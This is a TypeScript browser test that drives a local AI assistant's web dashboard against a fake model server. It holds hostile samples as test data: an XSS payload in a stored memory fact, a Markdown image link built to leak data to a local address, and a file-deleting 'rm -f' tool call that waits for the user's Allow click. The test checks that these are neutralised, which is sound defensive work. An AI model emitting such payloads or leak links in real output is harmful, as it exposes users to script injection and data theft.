/**
 * The dashboard scenario behind tests/web/browser_test.ts: Debian's Chromium, driven by
 * playwright-core, against a real `radar serve` subprocess whose model is a fake LLM HTTP server
 * in the test process. Every check throws on failure.
 */
import assert from "node:assert/strict";
import type { Browser, Page } from "playwright-core";
import { type FakeLlmServer, ollamaText, ollamaToolCall } from "../../fakes/fake_llm_server.ts";
import type { RadarHome } from "../../helpers/radar_process.ts";

export { chromiumPath } from "./chromium.ts";
/** The dashboard token the scenario logs in with. */
export const browserToken = "browser-token-0123456789";
const screenshots = new URL("../../output/screenshots/", import.meta.url);

/** What a payload in a fact would do if it ever ran. */
export const hostileFact = `The user likes green tea <script>window.__pwned = 1</script>` +
  `<img src=x onerror="window.__pwned = 2">`;

/** The config file of the served Radar: the fake model, a token, quiet defaults. */
export function scenarioConfig(llm: FakeLlmServer): string {
  return [
    "# Radar under the browser test",
    "llm:",
    `  base_url: "${llm.url}"`,
    `  model: "qwen2.5:14b" # the fake answers for any model`,
    "  retries: 0",
    "web:",
    `  auth_token: "${browserToken}"`,
    "tools:",
    "  exec:",
    '    writable_roots: ["~/work"] # writing it needs Allow in the chat',
    "",
  ].join("\n");
}

/**
 * Console messages that are expected: the browser logs every 422 answer (invalid config) and
 * the 401 of the reused login link as failed loads.
 */
function unexpected(messages: string[]): string[] {
  return messages.filter((text) =>
    !/status of 422/.test(text) && !/\/login\?code=\S+: .*status of 401/.test(text)
  );
}

async function shoot(page: Page, name: string): Promise<void> {
  await page.screenshot({ path: new URL(`${name}.png`, screenshots).pathname, fullPage: true });
}

/** Everything the scenario drives. */
export interface ScenarioTargets {
  browser: Browser;
  /** The served dashboard, e.g. http://127.0.0.1:41234 */
  base: string;
  llm: FakeLlmServer;
  radar: RadarHome;
  /** The one-time login link `radar serve` printed. */
  loginLink: string;
}

/** Runs the scenario; throws on the first failed check. */
export async function runDashboardScenario(targets: ScenarioTargets): Promise<void> {
  const { browser, base, llm, radar, loginLink } = targets;
  Deno.mkdirSync(screenshots, { recursive: true });
  const consoleErrors: string[] = [];
  const page = await browser.newPage();
  page.on("console", (message) => {
    if (message.type() === "error" || /Content.Security.Policy/i.test(message.text())) {
      consoleErrors.push(`${page.url()}: ${message.text()}`);
    }
  });
  page.on("pageerror", (error) => consoleErrors.push(`${page.url()}: ${error.message}`));
  const pwned = () => page.evaluate(() => "__pwned" in globalThis);

  // Login: every page needs a login first, also on 127.0.0.1. The link `radar serve` printed
  // logs in once; the same link a second time (from a log or shell history) does not.
  await page.goto(`${base}/memory`);
  assert.match(page.url(), /\/login\?next=%2Fmemory$/);
  await shoot(page, "login");
  const stranger = await browser.newPage();
  await stranger.goto(loginLink);
  assert.equal(new URL(stranger.url()).pathname, "/");
  await stranger.close();
  await page.goto(loginLink);
  await page.waitForSelector(".notice.error:has-text('already used or has expired')");
  await page.fill("input[name=token]", browserToken);
  await Promise.all([page.waitForURL(`${base}/`), page.click("button[type=submit]")]);

  // Dashboard: the daemon's real state and the fake model's status.
  await page.goto(`${base}/`);
  await page.waitForSelector("dd.good:has-text('running')");
  await page.waitForSelector("dt:has-text('reachable') + dd.good:has-text('yes')");
  await shoot(page, "dashboard");

  // Chat: the fake model calls `remember` with a hostile payload, then answers (with a Markdown
  // image that must not load).
  llm.reply(
    ollamaToolCall("remember", { content: hostileFact }),
    ollamaText("Noted: you like **green tea**. ![pixel](http://127.0.0.1:9/pixel.png?leak=tea)"),
  );
  await page.goto(`${base}/chat`);
  await page.fill("textarea[name=message]", "Remember that I like green tea");
  await page.click("#chat-form button[type=submit]");
  await page.waitForSelector(".message.assistant.done .tool-name:has-text('remember')");
  await page.waitForSelector(".message.assistant.done strong:has-text('green tea')");
  assert.equal(await page.locator(".message.assistant.done img").count(), 0, "no images");
  assert.equal(await page.inputValue("textarea[name=message]"), "", "the form was reset");
  await page.click(".message.assistant.done summary");
  await page.waitForSelector(".message.assistant.done pre:has-text('<script>window.__pwned')");
  assert.equal(await pwned(), false, "the payload ran in the chat");
  assert.equal(llm.chatRequests.length, 2, "one tool round, one answer");
  // The address now names the conversation: a reload continues it.
  assert.match(page.url(), /\/chat\?c=\d+$/);
  await page.reload();
  await page.waitForSelector(".message.user:has-text('Remember that I like green tea')");

  // A command that may change a writable root waits for Allow in the page, then runs.
  const notes = `${radar.home}/work/notes.txt`;
  Deno.mkdirSync(`${radar.home}/work`, { recursive: true });
  Deno.writeTextFileSync(notes, "old notes\n");
  llm.reply(
    ollamaToolCall("exec", { command: `rm -f ${notes}` }),
    ollamaText("Deleted your notes."),
  );
  await page.fill("textarea[name=message]", "Run the command that deletes my notes file");
  await page.click("#chat-form button[type=submit]");
  await page.waitForSelector(".confirmation button:has-text('Allow')");
  assert.ok(Deno.statSync(notes).isFile, "nothing runs before the answer");
  await shoot(page, "chat-confirm");
  await page.click(".confirmation button:has-text('Allow')");
  await page.waitForSelector(".message.assistant.done:has-text('Deleted your notes.')");
  await page.waitForSelector(".message.assistant.done .badge.outcome-ok:has-text('allowed')");
  assert.throws(() => Deno.statSync(notes), Deno.errors.NotFound);
  const continued = llm.chatRequests.at(-1)!.body as { messages: Array<{ role: string }> };
  assert.equal(continued.messages.filter((message) => message.role === "user").length, 2);
  await shoot(page, "chat");

  // History: the conversation with its tool call.
  await page.goto(`${base}/history`);
  await page.click("text=Remember that I like green tea");
  await page.waitForSelector(".tool-name:has-text('remember')");
  await page.waitForSelector(".badge.outcome-ok");
  await shoot(page, "history");

  // Memory: the fact is stored, shown as text, found by search, never executed.
  await page.goto(`${base}/memory`);
  assert.match(await page.textContent("#memory-results") ?? "", /<script>window.__pwned/);
  await page.fill("input[name=q]", "green tea");
  await page.waitForSelector("#memory-results h2:has-text('1 match')");
  assert.equal(await pwned(), false, "the payload ran on the memory page");
  await shoot(page, "memory");

  // Tasks: the daemon's task service.
  await page.goto(`${base}/tasks`);
  await page.click("summary:has-text('Add a task')");
  await page.fill("input[name=schedule]", "every 2h");
  await page.fill("textarea[name=prompt]", "Summarize my downloads");
  await Promise.all([
    page.waitForURL(`${base}/tasks`),
    page.click("button:has-text('Add task')"),
  ]);
  await page.waitForSelector("td code:has-text('every 2h')");
  await shoot(page, "tasks");

  // Plugins: the folder dropped into <data>/plugins waits for review; approve it.
  await page.goto(`${base}/plugins/review`);
  await page.waitForSelector("text=Small text utilities");
  await shoot(page, "plugin-review");
  await Promise.all([
    page.waitForURL(`${base}/plugins/review`),
    page.click("button:has-text('Approve text_utils')"),
  ]);
  await page.waitForSelector("text=Nothing waiting for review.");
  await page.goto(`${base}/plugins`);
  await page.waitForSelector("text=text_utils");
  await page.waitForSelector("text=word_count");
  await shoot(page, "plugins");

  // Config: an invalid value shows the CLI's error and leaves the file alone.
  const configBefore = Deno.readTextFileSync(radar.configPath);
  await page.goto(`${base}/config`);
  assert.doesNotMatch(await page.content(), new RegExp(browserToken), "the token is masked");
  await page.fill("textarea[name=text]", "llm:\n  temperature: 5\n");
  await page.click("button:has-text('Save')");
  await page.waitForSelector("#config-result .notice.error");
  assert.match(
    await page.textContent("#config-result") ?? "",
    /llm\.temperature: expected at most 2, found number 5/,
  );
  await shoot(page, "config");
  assert.equal(Deno.readTextFileSync(radar.configPath), configBefore);

  // Logs: the daemon's log file and the audit row of the remember call.
  await page.goto(`${base}/logs`);
  await page.waitForSelector("pre.log:has-text('radar serving')");
  await page.waitForSelector("table.audit code:has-text('remember')");
  await shoot(page, "logs");

  assert.equal(await pwned(), false);
  assert.deepEqual(unexpected(consoleErrors), []);
  await page.close();
}
